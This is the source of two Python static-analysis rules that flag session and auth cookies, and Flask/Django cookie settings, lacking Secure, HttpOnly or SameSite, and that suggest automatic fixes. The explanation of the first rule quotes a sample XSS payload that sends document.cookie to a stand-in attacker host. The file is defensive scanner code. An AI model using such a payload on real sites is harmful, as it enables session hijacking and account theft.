"""PY-COOKIE-001/002: session and auth cookies without `Secure`, `HttpOnly` and `SameSite`.

**PY-COOKIE-001 insecure-auth-cookie.** `response.set_cookie(...)` (Flask,
Werkzeug, Django, Starlette/FastAPI) for a cookie that carries a session or
credential: its name says so (`session`, `sid`, `auth`, `token`, `jwt`,
`remember_me`, `user_id`, `csrf_token`, ...) or its value is a token variable
(`access_token`, `session_id`). Reported when `secure`, `httponly` or
`samesite` is missing or switched off. CSRF cookies are meant to be read by
JavaScript (double-submit), so for them only `secure` and `samesite` are
required. Starlette defaults `samesite` to `lax`, so a missing `samesite` is
not reported in FastAPI/Starlette modules. Cookies such as `theme` or
`lang` are not reported unless `secure=False` is written out: then any cookie
but a known preference cookie (theme, language, consent, ...) is reported at
low severity, because the code opts out of HTTPS-only on purpose for a value
we cannot judge.

**PY-COOKIE-002 insecure-session-cookie-setting.** Framework settings that
switch the protection off: `SESSION_COOKIE_SECURE = False`,
`SESSION_COOKIE_HTTPONLY = False`, `SESSION_COOKIE_SAMESITE = None`,
`REMEMBER_COOKIE_SECURE = False` (Flask-Login), `CSRF_COOKIE_SECURE = False`
(Django), written as settings lines, config-class attributes,
`app.config[...] = ...` or `app.config.update(...)`. Not reported in
development/test config classes (`DevelopmentConfig`, `TestConfig`), inside
`if DEBUG:` blocks, or for values computed at run time
(`SESSION_COOKIE_SECURE = not DEBUG`). A missing setting is not reported:
that is a deployment question the code cannot answer.

**Fixes.** PY-COOKIE-001 adds the missing flags (`secure=True,
httponly=True, samesite="Lax"`) and turns `False` into `True`; the cookie
keeps its name, value and lifetime. PY-COOKIE-002 sets the value to `True`
(or `"Lax"`). Both mean the cookie is only sent over HTTPS: a site served
over plain HTTP (local development without TLS) will stop keeping its
session, which is why development settings are left alone.
"""

from __future__ import annotations

from typing import Iterator

from tree_sitter import Node

from ....context import AnalysisContext
from ....model import Confidence, Edit, Finding, Fix, Severity
from ....python.arguments import add_keyword, has_splat
from ....python.names import call_arguments, imports_module, method_name
from ....python.sensitive import identifier_words, in_test_code, is_secret_name, name_label, string_literal_value
from ....python.settings import config_assignments, in_development_settings
from ....python.strings import unwrap_parens
from ...base import Explanation, Rule, register

AUTH_COOKIE_WORDS = frozenset(
    {"session", "sess", "sid", "auth", "token", "jwt", "remember", "login", "csrf", "xsrf", "credentials", "creds",
     "apikey", "identity", "sso", "saml", "oauth", "refresh", "access", "connect", "logged"}
)
REQUIRED_FLAGS = ("secure", "httponly", "samesite")
PREFERENCE_COOKIE_WORDS = frozenset(
    {"theme", "lang", "language", "locale", "tz", "timezone", "consent", "currency", "dark", "mode", "sidebar", "layout", "font", "region", "country"}
)
SETTINGS = {
    "SESSION_COOKIE_SECURE": "True",
    "SESSION_COOKIE_HTTPONLY": "True",
    "SESSION_COOKIE_SAMESITE": '"Lax"',
    "REMEMBER_COOKIE_SECURE": "True",
    "REMEMBER_COOKIE_HTTPONLY": "True",
    "CSRF_COOKIE_SECURE": "True",
    "CSRF_COOKIE_SAMESITE": '"Lax"',
    "SESSION_COOKIE_SAMESITE_FORCE_ALL": "True",
}
# set_cookie(key, value, max_age, expires, path, domain, secure, httponly, samesite)
_POSITION = {"secure": 6, "httponly": 7, "samesite": 8}


def _is_auth_cookie(ctx: AnalysisContext, name: Node | None, value: Node | None) -> tuple[bool, bool]:
    """(carries a session or credential, is a CSRF cookie)."""
    label = name_label(ctx, name)
    if label is not None:
        words = set(identifier_words(label))
        csrf = bool(words & {"csrf", "xsrf"})
        if words & AUTH_COOKIE_WORDS or label.lower() in ("user_id", "userid", "uid", "user"):
            return True, csrf
        return False, False
    value = unwrap_parens(value)
    if value is not None and value.type in ("identifier", "attribute"):
        text = ctx.text(value.child_by_field_name("attribute") if value.type == "attribute" else value)
        return bool(is_secret_name(text)) or "session" in identifier_words(text), False
    return False, False


@register
class InsecureAuthCookie(Rule):
    id = "PY-COOKIE-001"
    name = "insecure-auth-cookie"
    triggers = ("set_cookie",)  # the method every finding is a call of
    cwe = 614
    owasp = "A05:2021"
    severity = Severity.MEDIUM
    confidence = Confidence.MEDIUM
    languages = ("python",)
    fix_title = "Add Secure, HttpOnly and SameSite"
    summary = "Session or auth cookie set without Secure, HttpOnly or SameSite"
    explanation = Explanation(
        what="A cookie that identifies the user is set without the browser protections for it.",
        why=(
            "Logins work without the flags, so nobody adds them. Without `Secure` the cookie is sent over any "
            "plain-HTTP request (a captive portal, an `http://` link) where it can be sniffed; without `HttpOnly` "
            "any XSS bug can read it with `document.cookie`; without `SameSite` other sites' forms ride on it (CSRF)."
        ),
        hostile_input=(
            "An injected `<img src=x onerror=\"fetch('https://evil.example/?c='+document.cookie)\">` sends the "
            "session token to the attacker, who replays it from their own browser."
        ),
        fix='`resp.set_cookie("session", token, secure=True, httponly=True, samesite="Lax")`.',
    )

    def check(self, ctx: AnalysisContext) -> Iterator[Finding]:
        starlette = imports_module(ctx, "fastapi", "starlette")
        for call in ctx.captures("(call function: (attribute)) @c").get("c", []):
            if method_name(ctx, call) != "set_cookie" or in_test_code(ctx, call):
                continue
            positional, keywords = call_arguments(ctx, call)
            name = positional[0] if positional else keywords.get("key")
            value = positional[1] if len(positional) > 1 else keywords.get("value")
            auth, csrf = _is_auth_cookie(ctx, name, value)
            if has_splat(call):
                continue
            if not auth:
                yield from self._explicitly_insecure(ctx, call, name, positional, keywords)
                continue
            wanted = [f for f in REQUIRED_FLAGS if not (csrf and f == "httponly") and not (starlette and f == "samesite")]
            missing: list[str] = []
            weak: list[Node] = []
            for flag in wanted:
                node = keywords.get(flag)
                if node is None and len(positional) > _POSITION[flag]:
                    node = positional[_POSITION[flag]]
                if node is None:
                    missing.append(flag)
                elif ctx.text(node) in ("False", "None", "0", '""', "''"):
                    weak.append(node)
            if not missing and not weak:
                continue
            problems = missing + [self._flag_of(ctx, n) for n in weak]
            label = string_literal_value(ctx, name) if name is not None else None
            yield self.finding(
                ctx,
                call,
                f"Cookie {label or ctx.text(value)!s} is set without {', '.join(problems)}",
                fixes=self._fix(ctx, call, positional, missing, weak),
            )

    def _explicitly_insecure(self, ctx: AnalysisContext, call: Node, name: Node | None, positional: list[Node], keywords: dict[str, Node]) -> Iterator[Finding]:
        """`secure=False` written out on a cookie that is not a known preference cookie."""
        label = name_label(ctx, name)
        if label is not None and set(identifier_words(label)) & PREFERENCE_COOKIE_WORDS:
            return
        secure = keywords.get("secure")
        if secure is None and len(positional) > _POSITION["secure"]:
            secure = positional[_POSITION["secure"]]
        if secure is None or ctx.text(secure) not in ("False", "0"):
            return
        yield self.finding(
            ctx,
            call,
            f"Cookie {label or 'value'} is explicitly sent over plain HTTP too (secure=False)",
            fixes=(Fix("Send the cookie over HTTPS only (secure=True)", (Edit(secure.start_byte, secure.end_byte, "True"),)),),
            severity=Severity.LOW,
            confidence=Confidence.LOW,
        )

    @staticmethod
    def _flag_of(ctx: AnalysisContext, node: Node) -> str:
        parent = node.parent
        return ctx.text(parent.child_by_field_name("name")) if parent is not None and parent.type == "keyword_argument" else "flag"

    @staticmethod
    def _fix(ctx: AnalysisContext, call: Node, positional: list[Node], missing: list[str], weak: list[Node]) -> tuple[Fix, ...]:
        if len(positional) > 6:
            return ()
        edits: list[Edit] = [Edit(n.start_byte, n.end_byte, '"Lax"' if ctx.text(n.parent.child_by_field_name("name")) == "samesite" else "True") for n in weak]
        if missing:
            values = {"secure": "secure=True", "httponly": "httponly=True", "samesite": 'samesite="Lax"'}
            add = add_keyword(ctx, call, ", ".join(values[f] for f in missing))
            if add is None:
                return ()
            edits.append(add)
        return (Fix("Add Secure, HttpOnly and SameSite=Lax (cookie only sent over HTTPS)", tuple(edits)),)


@register
class InsecureSessionCookieSetting(Rule):
    id = "PY-COOKIE-002"
    name = "insecure-session-cookie-setting"
    # config_assignments() reads each key from the unit's text: a name, an
    # attribute, a keyword or a string key (one not split into concatenated parts)
    triggers = tuple(SETTINGS)
    cwe = 614
    owasp = "A05:2021"
    severity = Severity.MEDIUM
    confidence = Confidence.HIGH
    languages = ("python",)
    fix_title = "Turn the cookie protection on"
    summary = "Flask/Django session or CSRF cookie setting switches Secure, HttpOnly or SameSite off"
    explanation = Explanation(
        what="A framework setting explicitly turns off a protection of the session (or CSRF/remember-me) cookie.",
        why=(
            "It is often added to make a login work on `http://localhost` and then ships to production, where the "
            "session cookie now travels over plain HTTP, is readable by scripts, or is sent with cross-site requests."
        ),
        hostile_input=(
            "With `SESSION_COOKIE_SECURE = False`, one `http://` request to the site on public Wi-Fi (an old link, an "
            "image) carries the session cookie in clear text to whoever is listening."
        ),
        fix="Leave the protection on in production settings (`SESSION_COOKIE_SECURE = True`); relax it only in development settings.",
    )

    def check(self, ctx: AnalysisContext) -> Iterator[Finding]:
        for setting in config_assignments(ctx):
            wanted = SETTINGS.get(setting.key)
            value = setting.value
            if wanted is None or value is None or ctx.text(value) not in ("False", "None", "0"):
                continue
            if in_development_settings(ctx, value) or in_test_code(ctx, value):
                continue
            if wanted != "True" and ctx.text(value) != "None":
                continue
            yield self.finding(
                ctx,
                value,
                f"{setting.key} = {ctx.text(value)} turns off a session cookie protection",
                fixes=(Fix(f"Set {setting.key} to {wanted} (cookie only sent over HTTPS / same-site)", (Edit(value.start_byte, value.end_byte, wanted),)),),
            )
